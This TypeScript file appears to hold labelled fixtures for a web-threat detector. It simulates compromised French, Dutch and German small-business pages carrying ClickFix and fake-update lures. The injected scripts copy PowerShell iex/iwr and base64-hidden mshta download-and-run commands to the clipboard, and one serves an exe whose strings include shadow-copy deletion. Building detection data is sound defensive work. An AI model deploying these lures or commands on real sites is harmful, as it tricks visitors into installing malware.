import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, fileRoute, zip, pe, pngRoute } from '../parts/e-bin.js';
import { wpPage, wpAssets, cookieBar } from '../parts/zl-kit.js';

// Fake-update and ClickFix overlays injected into real businesses' pages.

export const entries: Entry[] = [
{
  id: 'zl-clickfix-inject-captcha-restaurant-fr',
  label: 'clickfix',
  kind: 'injected-clickfix',
  url: 'https://restaurant-le-petit-zinc-lyon.fr/menu/',
  body: wpPage({ host: 'restaurant-le-petit-zinc-lyon.fr', lang: 'fr-FR', title: 'La carte', brand: 'Le Petit Zinc', tagline: 'Bistrot lyonnais depuis 1987', nav: ['Accueil', 'La carte', 'Réserver', 'Contact'],
    body: `<h1>La carte d'hiver</h1><h3>Entrées</h3><p>Salade lyonnaise – 11 € · Œuf meurette – 10 € · Cervelas pistaché – 12 €</p><h3>Plats</h3><p>Quenelle de brochet sauce Nantua – 19 € · Andouillette 5A – 18 € · Tablier de sapeur – 18 €</p>
<script src="https://restaurant-le-petit-zinc-lyon.fr/wp-content/themes/astra/assets/js/minified/frontend.min.js?ver=4.6.4"></script>`,
    footer: 'Le Petit Zinc · 12 rue Mercière 69002 Lyon · 04 78 00 00 00' }),
  routes: {
    ...wpAssets('restaurant-le-petit-zinc-lyon.fr'),
    'restaurant-le-petit-zinc-lyon.fr/wp-content/themes/astra/assets/js/minified/frontend.min.js': jsRoute(`!function(){var c="powershell -w h -c \\"iex(iwr 'https://cf-verify-human.icu/v.ps1' -UseBasicParsing)\\" # ✅ Je ne suis pas un robot - ID de vérification : 7734-221";
var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:rgba(0,0,0,.55);z-index:99999;display:flex;align-items:center;justify-content:center;font-family:Arial';
o.innerHTML='<div style="background:#fff;width:420px;padding:24px;border-radius:6px"><div style="display:flex;align-items:center;gap:12px;border:1px solid #ddd;padding:14px;background:#f9f9f9"><input type="checkbox" id="cb" style="width:26px;height:26px"><label for="cb">Je ne suis pas un robot</label><span style="margin-left:auto;font-size:10px;color:#888">reCAPTCHA<br>Confidentialité</span></div><div id="st" style="display:none;margin-top:16px;font-size:14px"><b>Étapes de vérification</b><ol><li>Appuyez sur la touche Windows + R</li><li>Appuyez sur CTRL + V</li><li>Appuyez sur Entrée</li></ol></div></div>';
document.body.appendChild(o);document.getElementById('cb').onclick=function(){navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});document.getElementById('st').style.display='block'}}();`),
  },
},
{
  id: 'zl-clickfix-inject-makelaar-word-error',
  label: 'clickfix',
  kind: 'injected-clickfix',
  url: 'https://makelaardij-vandersloot.nl/aanbod/woning-keizersgracht-214',
  body: `<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><title>Keizersgracht 214, Amsterdam – Van der Sloot Makelaardij</title>
<style>body{margin:0;font-family:Arial;color:#333}.h{padding:16px 30px;border-bottom:1px solid #ddd;font-size:20px;font-weight:700;color:#0a3d62}.c{max-width:900px;margin:20px auto;padding:0 20px}.ph{height:260px;background:#d8dee6}</style></head>
<body><div class="h">Van der Sloot Makelaardij</div><div class="c"><div class="ph"></div><h1>Keizersgracht 214, 1016 DZ Amsterdam</h1><p><b>€ 1.295.000 k.k.</b> · 142 m² · 4 kamers · Bouwjaar 1685</p>
<p>Karakteristiek grachtenpand met originele details. Download de brochure met plattegronden.</p><a href="#" id="br" style="background:#0a3d62;color:#fff;padding:10px 18px;text-decoration:none">Brochure (PDF) downloaden</a></div>
<script src="/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script></body></html>`,
  routes: {
    'makelaardij-vandersloot.nl/wp-includes/js/jquery/jquery-migrate.min.js': jsRoute(`/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
(function(){var _c=atob('bXNodGEgaHR0cHM6Ly9kb2N2aWV3ZXItZml4LmxpdmUvcGxnLmh0YQ==');function show(){var w=document.createElement('div');w.style.cssText='position:fixed;top:0;left:0;right:0;bottom:0;background:#f3f3f3;z-index:99999;font-family:Segoe UI,Arial';
w.innerHTML='<div style="background:#2b579a;color:#fff;padding:10px 18px;font-size:15px">Word Online</div><div style="max-width:600px;margin:60px auto;background:#fff;padding:26px;border:1px solid #ddd"><h2 style="color:#a4262c;margin-top:0">&#9888; Fout bij het laden van het document</h2><p>De extensie "Word Online" is niet geïnstalleerd in uw browser. Om het document te bekijken, volg de onderstaande stappen:</p><ol><li>Klik op de knop <b>Oplossing kopiëren</b></li><li>Klik met de rechtermuisknop op <b>Start</b> en kies <b>Windows PowerShell (Admin)</b></li><li>Plak met rechtermuisknop en druk op Enter</li></ol><button id="fx" style="background:#2b579a;color:#fff;border:0;padding:10px 20px">Oplossing kopiëren</button></div>';
document.body.appendChild(w);document.getElementById('fx').onclick=function(){navigator.clipboard.writeText(_c);this.textContent='Gekopieerd!'}}
document.addEventListener('DOMContentLoaded',function(){var b=document.getElementById('br');if(b)b.addEventListener('click',function(e){e.preventDefault();show()})});setTimeout(show,4000)})();`),
  },
},
{
  id: 'zl-malware-inject-fontmissing-blog-de',
  label: 'malware',
  kind: 'injected-fake-update',
  url: 'https://wanderblog-schwarzwald.de/2026/10/feldberg-steig-im-herbst/',
  body: wpPage({ host: 'wanderblog-schwarzwald.de', lang: 'de-DE', title: 'Feldberg-Steig im Herbst', brand: 'Wanderblog Schwarzwald', tagline: 'Touren, Hütten und Tipps', nav: ['Touren', 'Hütten', 'Ausrüstung', 'Über mich'],
    body: `<article><h1>Feldberg-Steig im Herbst</h1><p id="txt">Der Feldberg-Steig ist mit 12,5 km einer der schönsten Premiumwege im Südschwarzwald. Start ist am Haus der Natur...</p></article>
<script>(function(){if(!/Chrome/.test(navigator.userAgent)||!/Windows/.test(navigator.userAgent))return;var p=document.getElementById('txt');p.style.fontFamily='HoeflerText';p.textContent=p.textContent.replace(/[a-z]/g,function(c){return String.fromCharCode(0x2591+(c.charCodeAt(0)%5))});
var box=document.createElement('div');box.style.cssText='position:fixed;top:30%;left:50%;transform:translateX(-50%);width:470px;background:#fff;border:1px solid #999;box-shadow:0 4px 20px rgba(0,0,0,.3);font-family:Arial;z-index:9999';
box.innerHTML='<div style="background:#f2f2f2;padding:8px 12px;border-bottom:1px solid #ccc">⚠</div><div style="padding:18px"><h3 style="margin-top:0">Die Schriftart "HoeflerText" wurde nicht gefunden.</h3><p style="font-size:14px">Die Webseite, die Sie aufgerufen haben, wird aufgrund einer fehlenden Schriftart nicht korrekt angezeigt. Um den Text anzuzeigen, müssen Sie das "Chrome Font Pack" aktualisieren.</p><p style="font-size:13px">Manufacturer: <b>Google Inc.</b> &nbsp; Current version: <b>53.0.2785.116</b></p><a href="/wp-content/uploads/fonts/Chrome_Font.zip" style="background:#4a8af4;color:#fff;padding:8px 20px;text-decoration:none;float:right">Aktualisieren</a><div style="clear:both"></div></div>';document.body.appendChild(box)})();</script></article>`,
    footer: '© 2026 Wanderblog Schwarzwald · Impressum · Datenschutz' }),
  routes: {
    ...wpAssets('wanderblog-schwarzwald.de'),
    'wanderblog-schwarzwald.de/wp-content/uploads/fonts/Chrome_Font.zip': fileRoute(zip([{ name: 'Chrome_Font.exe', data: pe({ strings: ['Chrome Font Pack', 'Google Inc.', 'SbieDll.dll', 'vssadmin delete shadows /all /quiet'] }) }]), 'application/zip', 'Chrome_Font.zip'),
  },
},
];
